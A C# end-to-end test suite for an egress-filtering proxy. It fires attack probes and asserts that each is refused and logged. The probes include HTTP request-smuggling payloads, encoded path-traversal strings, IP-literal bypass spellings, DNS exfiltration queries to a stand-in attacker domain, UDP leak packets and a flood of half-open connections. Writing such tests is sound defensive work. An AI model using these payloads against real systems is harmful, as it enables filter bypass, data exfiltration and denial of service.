using System.Net;
using System.Net.Sockets;
using Hive.EndToEnd.Infrastructure;

namespace Hive.EndToEnd;

/// <summary>The attack battery of the egress issue: every case is refused and evented.</summary>
[Collection("egress")]
public sealed class EgressAttackTests(EgressDaemon fx)
{
    private const string ApiOnly = """[{ "access": "allow", "host": "api.example.test", "paths": ["/echo/v1/**"] }]""";

    private async Task<string> CodeAsync(string curlArgs) =>
        (await fx.ShAsync($"curl -sS -m 10 -o /dev/null -w '%{{http_code}}' {curlArgs}; echo \" exit $?\"")).Stdout.Trim();

    [Fact]
    public async Task Host_header_other_than_the_destination_gets_421()
    {
        await fx.RulesAsync("""[{ "access": "allow", "host": "api.example.test" }]""");
        var before = await fx.LastEventIdAsync();
        Assert.StartsWith("421", await CodeAsync("-H \"Host: other.example.test:$HTTPS\" https://api.example.test:$HTTPS/echo"));
        Assert.StartsWith("421", await CodeAsync("-H \"Host: other.example.test:$HTTP\" http://api.example.test:$HTTP/echo"));
        Assert.Contains(await fx.EventsAfterAsync(before, "egress.request"), e => e.Get<string>("access") == "denied");
    }

    [Fact]
    public async Task Sni_other_than_the_name_behind_the_synthetic_address_is_refused_at_the_handshake()
    {
        await fx.RulesAsync("""[{ "access": "allow", "host": "*.example.test" }]""");
        // Connect to other.example.test's synthetic address while claiming api.example.test in SNI.
        var r = await CodeAsync("--connect-to api.example.test:$HTTPS:other.example.test:$HTTPS https://api.example.test:$HTTPS/echo");
        Assert.EndsWith("exit 35", r);
    }

    [Fact]
    public async Task Absolute_form_target_for_another_host_is_refused()
    {
        await fx.RulesAsync("""[{ "access": "allow", "host": "api.example.test" }]""");
        var before = await fx.LastEventIdAsync();
        // Target and Host agree with each other but not with the connection's destination: 421, evented.
        Assert.StartsWith("421", await CodeAsync("--request-target http://other.example.test:$HTTP/echo -H \"Host: other.example.test:$HTTP\" http://api.example.test:$HTTP/echo"));
        Assert.Contains(await fx.EventsAfterAsync(before, "egress.request"), e => e.Get<string>("access") == "denied");
        // Target disagreeing with Host: Kestrel refuses the request itself (400) before it could be forwarded.
        var mixed = await CodeAsync("--request-target http://other.example.test:$HTTP/echo http://api.example.test:$HTTP/echo");
        Assert.True(mixed.StartsWith("400") || mixed.StartsWith("421"), mixed);
    }

    [Theory]
    [InlineData("/echo/v1/%2e%2e/admin")]
    [InlineData("/echo/v1/..%2fadmin")]
    [InlineData("/echo/v1/%2E%2E/admin")]
    [InlineData("/echo/v1/..%5cadmin")]
    [InlineData("/echo/v1/../../admin")]
    [InlineData("//echo/admin")]
    public async Task Encoded_slashes_and_dot_segments_do_not_escape_a_path_rule(string path)
    {
        await fx.RulesAsync(ApiOnly);
        Assert.StartsWith("403", await CodeAsync($"--path-as-is \"https://api.example.test:$HTTPS{path}\""));
    }

    [Fact]
    public async Task Ip_literals_in_every_spelling_are_the_ip_and_no_name_rule_allows_them()
    {
        await fx.RulesAsync("""[{ "access": "allow", "host": "api.example.test" }]""");
        var gateway = (await fx.ShAsync("ip route | awk '/default/ {print $3}'")).Stdout.Trim();
        var octets = gateway.Split('.').Select(int.Parse).ToArray();
        var asInt = ((long)octets[0] << 24) | ((long)octets[1] << 16) | ((long)octets[2] << 8) | (long)octets[3];
        var spellings = new[] { gateway, asInt.ToString(), $"0x{asInt:x}", $"0x{octets[0]:x}.{octets[1]}.{octets[2]}.{octets[3]}", $"[::ffff:{gateway}]" };
        var before = await fx.LastEventIdAsync();
        foreach (var host in spellings)
        {
            var r = await CodeAsync($"-H \"Host: api.example.test:$HTTP\" http://{host}:$HTTP/echo");
            Assert.False(r.StartsWith("200"), $"{host}: {r}");
        }
        var events = await fx.EventsAfterAsync(before, "egress.request");
        Assert.NotEmpty(events);
        Assert.All(events, e => Assert.Equal("denied", e.Get<string>("access")));
    }

    [Fact]
    public async Task Smuggling_trace_and_connect_are_refused()
    {
        await fx.RulesAsync(ApiOnly.Replace("\"paths\"", "\"ports\": [$HTTP], \"paths\""));
        var r = await fx.ShAsync("""
            python3 - <<'PY'
            import socket, os
            def send(raw):
                s = socket.create_connection(("api.example.test", int(os.environ["HTTP"])), timeout=5)
                s.sendall(raw.replace(b"PORT", os.environ["HTTP"].encode()))
                data = b""
                try:
                    while True:
                        chunk = s.recv(65536)
                        if not chunk: break
                        data += chunk
                except socket.timeout: pass
                return [l for l in data.decode(errors="replace").split("\r\n") if l.startswith("HTTP/1.1")]
            # CL+TE: the smuggled second request is a request of its own, and is decided on its own.
            print("cl-te", send(b"POST /echo/v1/a HTTP/1.1\r\nHost: api.example.test:PORT\r\nContent-Length: 40\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /echo/admin HTTP/1.1\r\nHost: api.example.test:PORT\r\nConnection: close\r\n\r\n"))
            print("dup-cl", send(b"POST /echo/v1/a HTTP/1.1\r\nHost: api.example.test:PORT\r\nContent-Length: 3\r\nContent-Length: 30\r\nConnection: close\r\n\r\nabc"))
            print("obs-fold", send(b"GET /echo/v1/a HTTP/1.1\r\nHost: api.example.test:PORT\r\nX-A: a\r\n b\r\nConnection: close\r\n\r\n"))
            print("trace", send(b"TRACE /echo/v1/a HTTP/1.1\r\nHost: api.example.test:PORT\r\nConnection: close\r\n\r\n"))
            print("connect", send(b"CONNECT other.example.test:443 HTTP/1.1\r\nHost: other.example.test:443\r\nConnection: close\r\n\r\n"))
            PY
            """);
        var lines = r.Stdout.Split('\n', StringSplitOptions.RemoveEmptyEntries).ToDictionary(l => l.Split(' ')[0], l => l);
        Assert.DoesNotContain("200", lines["cl-te"].Split(',').Skip(1).FirstOrDefault() ?? "");  // the smuggled /echo/admin is not allowed
        Assert.Contains("400", lines["dup-cl"]);
        Assert.Contains("400", lines["obs-fold"]);
        Assert.Contains("405", lines["trace"]);
        Assert.DoesNotContain("200", lines["connect"]);
    }

    [Fact]
    public async Task Dns_refuses_exfiltration_and_udp_goes_nowhere()
    {
        await fx.RulesAsync("""[{ "access": "allow", "host": "api.example.test" }]""");
        using var udp = new UdpClient(new IPEndPoint(IPAddress.Any, 0));
        var udpPort = ((IPEndPoint)udp.Client.LocalEndPoint!).Port;
        var before = await fx.LastEventIdAsync();
        var r = await fx.ShAsync($$"""
            python3 - <<'PY'
            import socket, struct, os
            ns = open("/etc/resolv.conf").read().split()[1]
            def ask(name, qtype):
                q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
                for label in name.split("."): q += bytes([len(label)]) + label.encode()
                q += b"\0" + struct.pack(">HH", qtype, 1)
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(q, (ns, 53))
                r = s.recv(4096); flags, an = struct.unpack(">H", r[2:4])[0], struct.unpack(">H", r[6:8])[0]
                return "rcode=%d answers=%d" % (flags & 15, an)
            print("txt-allowed", ask("api.example.test", 16))
            print("any-allowed", ask("api.example.test", 255))
            print("txt-unlisted", ask("secret-data.attacker.test", 16))
            print("long-label", ask("a" * 63 + "." + "b" * 63 + ".exfil.test", 1))
            print("a-allowed", ask("api.example.test", 1))
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            gw = [l.split()[2] for l in os.popen("ip route") if l.startswith("default")][0]
            for port in ({{udpPort}}, 443, 9):
                try: u.sendto(b"leak", (gw, port))
                except OSError: pass
            print("udp sent")
            PY
            """);
        var lines = r.Stdout.Split('\n', StringSplitOptions.RemoveEmptyEntries).ToDictionary(l => l.Split(' ')[0], l => l);
        Assert.Contains("rcode=0 answers=0", lines["txt-allowed"]);
        Assert.Contains("rcode=0 answers=0", lines["any-allowed"]);
        Assert.Contains("rcode=3", lines["txt-unlisted"]);
        Assert.Contains("rcode=3", lines["long-label"]);
        Assert.Contains("rcode=0 answers=1", lines["a-allowed"]);
        await Task.Delay(500);
        Assert.Equal(0, udp.Available);
        var dns = await fx.EventsAfterAsync(before, "dns.query");
        Assert.Contains(dns, e => e.Get<string>("qtype") == "TXT" && e.Get<string>("answer") == "nxdomain");
    }

    [Fact]
    public async Task Many_half_open_connections_leave_the_proxy_responsive()
    {
        await fx.RulesAsync("""[{ "access": "allow", "host": "api.example.test" }]""");
        var r = await fx.ShAsync("""
            python3 - <<'PY'
            import socket, os, subprocess, time
            socks = []
            for i in range(900):
                try: socks.append(socket.create_connection(("api.example.test", int(os.environ["HTTPS"])), timeout=5))
                except OSError as e: print("connect failed", i, e); break
            start = time.time()
            code = subprocess.run(["curl", "-sS", "-m", "20", "-o", "/dev/null", "-w", "%{http_code}", "https://api.example.test:%s/echo" % os.environ["HTTPS"]], capture_output=True, text=True).stdout
            print("open", len(socks), "code", code, "seconds %.1f" % (time.time() - start))
            PY
            """, 120_000);
        Assert.Contains("code 200", r.Stdout);
    }
}
